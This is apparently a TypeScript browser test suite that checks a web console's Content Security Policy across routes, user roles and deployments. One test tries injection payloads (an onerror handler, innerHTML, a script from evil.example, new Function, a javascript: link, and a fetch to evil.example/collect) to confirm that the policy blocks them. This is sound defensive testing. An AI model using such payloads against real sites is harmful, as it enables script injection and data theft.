import { readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { executionParts } from '#contract/asset-packages/asset-packages.ts';
import { planSteps } from '#contract/campaigns/plan.ts';
import { patterns } from '#config/paths.ts';
import { startStage, visit } from '#tests/support/browser.ts';
import { journeyOf } from '#tests/support/journey.ts';
import { settled, watchPolicy } from '#tests/support/policy-watch.ts';
import { wordsIn } from '#tests/support/words.ts';

const stage = await startStage();
afterAll(() => stage.stop());

const publicPaths = [patterns.login, patterns.resetPassword, patterns.newPassword, patterns.passwordChanged, patterns.invitation];

// Every pattern of the console, whoever adds one; a parameter nobody has told about fails.
const addressesOf = (pattern: string, ids: Readonly<Record<string, readonly string[]>>): string[] => {
  const name = /:(\w+)/.exec(pattern)?.[1];
  if (name === undefined) return [pattern];
  const values = ids[name];
  if (!values) throw new Error(`Say what stands for :${name} in ${pattern}`);
  return values.flatMap((value) => addressesOf(pattern.replace(`:${name}`, value), ids));
};

/** A planner goes to every screen, an account manager to those of the review, and both to every page that needs no session. */
const tour = async (): Promise<void> => {
  const { context, page, complaints } = await visit(stage);
  const { violations, foreign } = await watchPolicy(context, stage.address);
  const token = await stage.server.signIn('planner@acme.example');
  const campaigns: { id: string; status: string }[] = (
    await stage.server.request('GET', '/enterprise-api/v1/campaigns?size=100', { token })
  ).body.content;
  const idOf = (status: string): string => campaigns.find((campaign) => campaign.status === status)?.id ?? '';
  const firstOf = async (list: string): Promise<string> => {
    const { body } = await stage.server.request('GET', list, { token });
    return body.content[0].id;
  };
  const [planned, executed] = [idOf('PLANNING'), idOf('EXECUTION')];
  const ids = {
    campaignId: [planned, executed],
    step: planSteps,
    // Both tours stand on the same screens; the full one has all of them.
    tour: ['planner-full'],
    part: executionParts,
    kind: ['campaign', 'lockScreen'],
    jobId: ['00000000-0000-4000-8000-000000000000'],
    itemId: [idOf('PLANNING_REVIEW'), await firstOf('/kaikai-now-content-api/v1/lock-screen-campaigns')],
    userId: [(await stage.server.request('GET', '/enterprise-api/v1/me', { token })).body.id],
    clientId: [await firstOf('/enterprise-api/v1/clients')],
    pushId: [await firstOf('/enterprise-api/v1/push-notifications?status=DRAFT')],
    token: ['AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
  };
  for (const pattern of publicPaths) {
    for (const address of addressesOf(pattern, ids)) {
      await page.goto(address);
      await settled(page);
    }
  }
  for (const [username, shown] of [
    ['planner@acme.example', [...Object.values(patterns), '/nowhere']],
    ['am@provider.example', [patterns.review, patterns.reviewItem, patterns.reviewById, patterns.person, patterns.settings]],
  ] as const) {
    await page.goto('/login');
    await page.evaluate(() => localStorage.removeItem('access_token'));
    await journeyOf(page, 'en').signIn(username);
    await page.getByRole('banner').waitFor();
    for (const pattern of shown) {
      if (publicPaths.some((path) => path === pattern)) continue;
      // A step of the plan or of its execution is itself only in a campaign that has come so far.
      const campaignId = pattern === patterns.campaign ? ids.campaignId : [/execution|report/.test(pattern) ? executed : planned];
      for (const address of addressesOf(pattern, { ...ids, campaignId })) {
        await page.goto(address);
        await settled(page);
      }
    }
    await page.evaluate(() => localStorage.clear());
  }

  expect(violations).toEqual([]);
  expect(foreign).toEqual([]);
  // The browser's own remark on refusals that are meant: a forbidden page, a wrong invitation.
  expect(complaints.filter((complaint) => !/Failed to load resource: .* status of 40[0134]/.test(complaint))).toEqual([]);
  await context.close();
};

describe('under the security policy', () => {
  // What a screen does is the same in every language; the main job's test reads the browser's complaints in each of them.
  it('every screen runs, and asks nobody else for anything', tour);
});

describe('the policy', () => {
  it('stops what it is there for: inline scripts and handlers, foreign code, markup out of text, and code out of text', async () => {
    const { context, page } = await visit(stage);
    const { violations } = await watchPolicy(context, stage.address);
    await page.goto('/login');
    await settled(page);
    const ran = await page.evaluate(async () => {
      // What the test itself evaluates may make code out of text; what the page does later may not.
      await new Promise((resolve) => setTimeout(resolve, 0));
      const attempt = (work: () => unknown): void => {
        try {
          work();
        } catch {
          // Refused, as it should be.
        }
      };
      attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran=1">'));
      attempt(() => (document.body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>'));
      attempt(() => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/a.js';
        document.head.append(script);
      });
      attempt(() => {
        const script = document.createElement('script');
        script.textContent = 'window.ran = 2';
        document.head.append(script);
      });
      // oxlint-disable-next-line typescript/no-implied-eval -- what the policy has to stop
      attempt(() => new Function('window.ran = 3')());
      attempt(() => {
        const link = document.createElement('a');
        link.href = 'javascript:window.ran=4';
        document.body.append(link);
        link.click();
      });
      await fetch('https://evil.example/collect').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return (window as { ran?: number }).ran ?? null;
    });
    expect(ran).toBeNull();
    expect(new Set(violations.map((violation) => violation.split(' ')[1]))).toEqual(
      new Set(['require-trusted-types-for', 'script-src-elem', 'connect-src']),
    );
    await context.close();
  });

  it('holds in its form for a host of files, without nonces: only the document’s own script is known, by its hash', async () => {
    const { context, page, complaints } = await visit(stage);
    const { violations } = await watchPolicy(context, stage.address);
    const dist = new URL('../../dist/', import.meta.url);
    const policies: Record<string, string> = JSON.parse(readFileSync(new URL('static-policies.json', dist), 'utf8'));
    expect(policies['*']).toMatch(/script-src 'self' 'sha256-[\w+/=]+'; style-src 'self' 'unsafe-inline'; /);
    expect(policies['chinaProduction']).toContain("connect-src 'self' https://content.console.example.cn;");
    await page.route('**/*', (route) =>
      route.request().resourceType() === 'document'
        ? route.fulfill({
            body: readFileSync(new URL('index.html', dist), 'utf8'),
            contentType: 'text/html',
            headers: { 'Content-Security-Policy': policies['*'] ?? '' },
          })
        : route.continue(),
    );
    const plan = journeyOf(page, 'en');
    await plan.signIn('planner@acme.example');
    await page.getByRole('row').nth(1).waitFor();
    expect(await page.evaluate(() => window.trustedTypes?.defaultPolicy?.name)).toBe('default');
    await plan.begin('Files');
    await page.waitForURL(/\/audience$/);
    await plan.chooseAudience();
    expect(violations).toEqual([]);
    expect(complaints).toEqual([]);
    await context.close();
  });

  it('says whose words a deployment has, and lets an unknown host call nobody but its own origin', async () => {
    const { context, page } = await visit(stage, { language: 'jp' });
    const { foreign } = await watchPolicy(context, stage.address);
    const response = await page.goto('/login');
    expect(response?.headers()['content-security-policy']).toContain("connect-src 'self';");
    await settled(page);
    expect(await page.locator('html').getAttribute('lang')).toBe('ja-JP');
    expect(foreign).toEqual([]);
    await context.close();
  });

  it('follows the deployment that the server names, with its languages, its content service and its rules of a password', async () => {
    const europe = await startStage({ page: { deployment: 'europeProduction', passwordReading: 'pattern' } });
    const { context, page, complaints } = await visit(europe, { language: 'cn' });
    const { violations } = await watchPolicy(context, europe.address);
    const response = await page.goto('/reset-password/new-password?username=lin%40acme.example');
    expect(response?.headers()['content-security-policy']).toContain("connect-src 'self' https://content.console.example.eu;");
    await settled(page);
    expect(await page.locator('html').getAttribute('lang')).toBe('en-GB');
    await page.getByText(wordsIn('en')('error.password.length', { value: 8 })).waitFor();
    await page.getByText(wordsIn('en')('error.password.alphanumeric')).waitFor();
    await page.getByRole('button', { name: wordsIn('en')('app.language') }).click();
    expect((await page.getByRole('menu').allTextContents()).join('')).toMatch(/^English\s*日本語$/);
    expect(violations).toEqual([]);
    expect(complaints).toEqual([]);
    await context.close();
    await europe.stop();
  });
});
